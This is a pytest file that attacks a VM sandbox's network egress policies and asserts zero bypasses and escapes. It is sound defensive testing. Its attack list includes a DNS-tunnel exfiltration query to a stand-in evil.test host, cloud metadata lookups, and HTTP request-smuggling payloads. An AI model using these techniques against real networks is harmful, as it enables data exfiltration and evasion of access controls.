"""The configurations SPACE's report used, from inside a real VM, each with one battery
of attacks and a published count of attempts, bypasses and escapes:

  blocked  everything blocked: policy `none` applied live (the VM keeps its NIC, so
           every attack reaches the gateway instead of failing in the guest);
  mirror   partial access to an approved package repository: an allowlist of the lab's
           fake Debian mirror `deb.mirror.test` (never a real mirror), where a real
           `apt-get update` in the VM works.

An attempt is one attack call. A bypass: the VM got what it asked for from something
the policy does not allow (an answer, a reply from a blocked host, an index from the
mirror when blocked). An escape: the far side recorded anything for something not
allowed (a packet on a counter, a query at the nameserver or the canary resolver, a
request or TLS hello at a web server, a canary dial), whatever the VM saw. The report
is written as JSON and Markdown to SPACE_NETSEC_REPORT (default
<SPACE_BUILD>/netsec-configs.json and .md); docs/security.md publishes it. Every
configuration must show 0 bypasses and 0 escapes, and the mirror's positive control
(apt-get update, then apt-cache finds the probe package) must work."""
import json
import os
import time

import pytest

import netlab

MIRROR, MIRROR_IP, ALLOWED_IP, ECHO_IP = "deb.mirror.test", "203.0.113.50", "203.0.113.10", "203.0.113.20"
CONFIGS = {
    "blocked": {"mode": "none"},
    "mirror": {"mode": "allowlist", "allow": [MIRROR]},
}
ALLOWED = {"blocked": ({}, set()), "mirror": ({MIRROR_IP}, {MIRROR})}  # addresses, names
SOURCES = "/opt/netsec/mirror.list"
UPGRADE = "Upgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n"
SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
_report = {}


def answered(r):
    return bool(r.get("answers"))


def got(r, marker):
    return marker in r.get("reply", "") or marker in r.get("body", "")


# (label, guestpy call, bypass judge on the VM's result)
ATTACKS = [
    ("DNS A of a name not allowed", ("dns", netlab.GW_IP, "allowed.test", "1"), answered),
    ("DNS tunnel name", ("dns", netlab.GW_IP, "c2VjcmV0LWRhdGE.tunnel.evil.test", "1"), answered),
    ("DNS TXT of the mirror name", ("dns", netlab.GW_IP, MIRROR, "16"), answered),
    ("DNS over TCP, name not allowed", ("dns", netlab.GW_IP, "evil.test", "1", "tcp"), answered),
    ("DNS internal name", ("dns", netlab.GW_IP, "metadata.google.internal", "1"), answered),
    ("public resolver over UDP", ("dns", "198.51.100.53", "allowed.test", "1"), lambda r: not r.get("timeout")),
    ("public resolver over TCP", ("dns", "198.51.100.53", "allowed.test", "1", "tcp"),
     lambda r: not r.get("timeout")),
    ("DoT to the public resolver", ("tcp", "198.51.100.53", "853", "", "2"), lambda r: r["connected"]),
    ("HTTP to a blocked host", ("http", ALLOWED_IP, "80", "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"),
     lambda r: got(r, "203.0.113.10")),
    ("HTTP, mirror Host at a blocked address", ("http", ALLOWED_IP, "80",
                                                 "GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % MIRROR),
     lambda r: got(r, "203.0.113.10")),
    ("HTTP absolute URI to a blocked host", ("http", MIRROR_IP, "80",
                                             "GET http://allowed.test/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % MIRROR),
     lambda r: got(r, '"host": "allowed.test"')),
    ("second request for a blocked host after a refused upgrade",
     ("http", MIRROR_IP, "80", "GET / HTTP/1.1\\r\\nHost: %s\\r\\n%s\\r\\n"
      "GET /smuggled HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n" % (MIRROR, UPGRADE)),
     lambda r: got(r, "/smuggled")),
    ("request for a blocked host in a chunked body",
     ("http", MIRROR_IP, "80", "POST / HTTP/1.1\\r\\nHost: %s\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
      "%x\\r\\n%s\\r\\n0\\r\\n\\r\\n" % (MIRROR, len(SMUGGLED), SMUGGLED.replace("\r\n", "\\r\\n"))),
     lambda r: got(r, "/smuggled")),
    ("internal name as Host", ("http", MIRROR_IP, "80", "GET / HTTP/1.1\\r\\nHost: metadata\\r\\n\\r\\n"),
     lambda r: "HTTP/1.1 200" in r["reply"]),
    ("HTTPS to a blocked host", ("fetch", "https://allowed.test/", json.dumps({"resolve": ALLOWED_IP, "timeout": 5,
                                                                              "cafile": "/opt/netsec/ca.pem"})),
     lambda r: r.get("ok", False)),
    ("TLS, mirror SNI at a blocked address", ("hello", ECHO_IP, "443", json.dumps({"snis": [MIRROR]})),
     lambda r: bool(r["reply"])),
    ("TLS, blocked SNI", ("hello", ECHO_IP, "443", json.dumps({"snis": ["evil.test"]})), lambda r: bool(r["reply"])),
    ("TLS without SNI", ("hello", ECHO_IP, "443", json.dumps({"snis": None})), lambda r: bool(r["reply"])),
    ("mirror on another port", ("tcp", MIRROR_IP, "8443", "", "2"), lambda r: r["connected"]),
    ("ICMP echo", ("icmp", ALLOWED_IP, "2"), lambda r: r["replies"] > 0),
    ("UDP (QUIC port)", ("udp", ALLOWED_IP, "443", "c0ffee"), lambda r: False),
    ("IPv6", ("ipv6",), lambda r: bool(r.get("connected"))),
]


def apt(sb, lists, *cmd):
    """apt with only the fake mirror as source and its own lists directory."""
    return sb.run("sh", "-c", "mkdir -p %s/partial && apt-get -q -o Dir::Etc::sourcelist=%s "
                  "-o Dir::Etc::sourceparts=- -o Dir::State::Lists=%s -o APT::Sandbox::User=root "
                  "-o Acquire::Languages=none -o Acquire::Retries=0 %s 2>&1"
                  % (lists, SOURCES, lists, " ".join(cmd)), timeout=240)


def apt_update_finds_probe(sb, config):
    lists = "/tmp/netsec-apt-" + config
    upd = apt(sb, lists, "update")
    show = sb.run("apt-cache", "-o", "Dir::Etc::sourcelist=" + SOURCES, "-o", "Dir::Etc::sourceparts=-",
                  "-o", "Dir::State::Lists=" + lists, "show", "space-netsec-probe", timeout=120)
    return "space-netsec-probe" in show.stdout, upd.stdout[-600:]


def escapes(lab, mark, before, config):
    addrs, names = ALLOWED[config]
    found = []
    after = lab.counters()
    for name, n in after.items():
        ip = name[2:].replace("_", ".") if name.startswith("c_") else None
        if n > before.get(name, 0) and ip != "192.0.2.53" and ip not in addrs:
            found.append("counter %s +%d" % (name, n - before.get(name, 0)))
    for e in lab.since(mark):
        k = e["kind"]
        if k == "dns" and (e.get("server") != "auth" or e.get("name") not in names):
            found.append("dns %s asked %s" % (e.get("server"), e.get("name")))
        elif k in ("http", "tls", "tcp", "tls_fail", "ws", "canary") and e.get("addr") not in addrs:
            found.append("%s at %s" % (k, e.get("addr")))
        elif k == "http" and e.get("host", "").split(":")[0] not in names:
            found.append("http for Host %s" % e.get("host"))
    return found


def write_report():
    path = os.environ.get("SPACE_NETSEC_REPORT") or os.path.join(
        os.environ.get("SPACE_BUILD", os.path.join(netlab.ROOT, "build", "san")), "netsec-configs.json")
    with open(path, "w") as f:
        json.dump(_report, f, indent=1)
    lines = ["| configuration | policy | attempts | bypasses | escapes | control |", "|---|---|---|---|---|---|"]
    for name, r in _report.items():
        lines.append("| %s | `%s` | %d | %d | %d | %s |" % (
            name, json.dumps(r["policy"]), r["attempts"], len(r["bypasses"]), len(r["escapes"]), r["control"]))
    with open(os.path.splitext(path)[0] + ".md", "w") as f:
        f.write("\n".join(lines) + "\n")


@pytest.mark.parametrize("config", list(CONFIGS))
def test_configuration(lab, sb, config):
    sb.put(SOURCES, ("deb [trusted=yes] http://%s/debian bookworm main\n" % MIRROR).encode())
    assert sb.set_policy(CONFIGS[config])["ok"]
    time.sleep(0.3)
    before, mark = lab.counters(), lab.mark()
    results = sb.batch([call for _, call, _ in ATTACKS])
    bypasses = [label for (label, _, judge), r in zip(ATTACKS, results) if "exception" in r or judge(r)]
    found_probe, apt_out = apt_update_finds_probe(sb, config)
    attempts = len(ATTACKS)
    if config == "blocked":
        attempts += 1  # apt-get update from the mirror is one more attempt here
        if found_probe:
            bypasses.append("apt-get update from the mirror")
        control = "apt-get update fails"
    else:
        control = "apt-get update works" if found_probe else "apt-get update FAILED"
    time.sleep(0.5)
    esc = escapes(lab, mark, before, config)
    _report[config] = {"policy": CONFIGS[config], "attempts": attempts, "bypasses": bypasses,
                       "escapes": esc, "control": control,
                       "results": [{"attack": label, "result": r} for (label, _, _), r in zip(ATTACKS, results)]}
    write_report()
    assert not bypasses, (bypasses, results)
    assert not esc, esc
    if config == "mirror":
        assert found_probe, apt_out
        seen = [e["path"] for e in lab.since(mark, "http") if e.get("host") == MIRROR]
        assert "/debian/dists/bookworm/Release" in seen, seen
